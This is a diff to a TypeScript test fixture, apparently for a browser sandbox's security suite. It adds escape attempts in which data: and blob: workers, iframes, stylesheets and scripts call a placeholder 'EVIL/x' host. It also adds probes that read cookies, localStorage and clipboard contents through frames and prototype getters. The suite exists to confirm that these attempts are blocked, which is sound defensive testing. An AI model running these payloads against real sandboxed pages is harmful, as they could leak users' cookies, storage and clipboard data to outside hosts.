@@ -76,6 +76,45 @@ export const WAYS_OUT: Record<string, Attempt> = {
       const worker = new Worker(URL.createObjectURL(new Blob([code])));
       return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
   },
+  'a worker of a data: address': {
+    script: `const code = "fetch('EVIL/x', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
+      const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
+      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
+  },
+  'a worker of a data: address that imports': {
+    script: `const code = "try { importScripts('EVIL/x') } catch {} postMessage(0)";
+      const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
+      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
+  },
+  'a frame of a data: address': {
+    markup: `<iframe src="data:text/html,<img src=EVIL/x><script src=EVIL/x></script>"></iframe>`,
+  },
+  'a frame of a data: address that leaves': {
+    markup: `<iframe src="data:text/html,<script>location='EVIL/x'</script>"></iframe>`,
+    leaves: true,
+  },
+  'a frame of a blob: address': {
+    script: `const frame = document.body.appendChild(document.createElement('iframe'));
+      frame.src = URL.createObjectURL(new Blob(
+        ['<img src="EVIL/x"><script>fetch("EVIL/x", { mode: "no-cors" })<' + '/script>'],
+        { type: 'text/html' }));
+      return new Promise((done) => { frame.onload = () => setTimeout(done, 100); });`,
+  },
+  'a frame of a blob: address that leaves': {
+    script: `const frame = document.body.appendChild(document.createElement('iframe'));
+      frame.src = URL.createObjectURL(new Blob(
+        ['<script>location = "EVIL/x"<' + '/script>'], { type: 'text/html' }));
+      return new Promise((done) => { frame.onload = () => setTimeout(done, 100); });`,
+    leaves: true,
+  },
+  'a stylesheet of a data: address': {
+    markup: `<link rel="stylesheet" href="data:text/css,@import 'EVIL/x';">`,
+  },
+  'a script of a data: address': {
+    script: `const script = document.body.appendChild(document.createElement('script'));
+      script.src = 'data:text/javascript,fetch("EVIL/x", { mode: "no-cors" }).catch(() => {})';
+      return new Promise((done) => { script.onload = () => setTimeout(done, 100); });`,
+  },
   'a form': {
     markup: '<form action="EVIL/x"></form>',
     script: "document.querySelector('form').submit()",
@@ -133,9 +172,12 @@ export const LINKS: Record<string, string> = {
 
 /** Access to the site's origin: each must throw or return nothing. */
 export const LIBERTIES: Record<string, string> = {
-  'document.cookie': "document.cookie = 'a=b'; return document.cookie",
-  localStorage: "localStorage.setItem('a', 'b'); return 'stored'",
-  sessionStorage: "sessionStorage.setItem('a', 'b'); return 'stored'",
+  'the browser’s cookies': `const { get } = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
+    return get.call(document)`,
+  'the browser’s storage': `const frame = document.body.appendChild(document.createElement('iframe'));
+    frame.srcdoc = '<p>';
+    await new Promise((done) => setTimeout(done, 500));
+    return frame.contentWindow.localStorage.getItem('a') ?? 'read'`,
   indexedDB: `const open = indexedDB.open('a');
     return new Promise((done, fail) => {
       open.onsuccess = () => done('opened');
@@ -155,7 +197,18 @@ export const LIBERTIES: Record<string, string> = {
   position: `return new Promise((done, fail) =>
     navigator.geolocation.getCurrentPosition(() => done('found'), fail))`,
   'the clipboard': 'return "read " + (await navigator.clipboard.readText())',
-  'full screen': "await document.documentElement.requestFullscreen(); return 'full'",
+  'the clipboard of a frame': `const frame = document.body.appendChild(document.createElement('iframe'));
+    frame.allow = 'clipboard-read; camera';
+    frame.src = 'data:text/html,' + encodeURIComponent(
+      '<script>navigator.clipboard.readText().then(() => "read", (e) => e.name)' +
+      '.then((what) => parent.postMessage({ what }, "*"))<' + '/script>');
+    return new Promise((done, fail) => {
+      addEventListener('message', ({ data }) => {
+        if (data.what === 'read') done('read');
+        else if (data.what) fail(new Error(data.what));
+      });
+      setTimeout(fail, 2000, new Error('silent'));
+    })`,
 };
 
 /** An attack that requests `/${name}` from the counting server. */
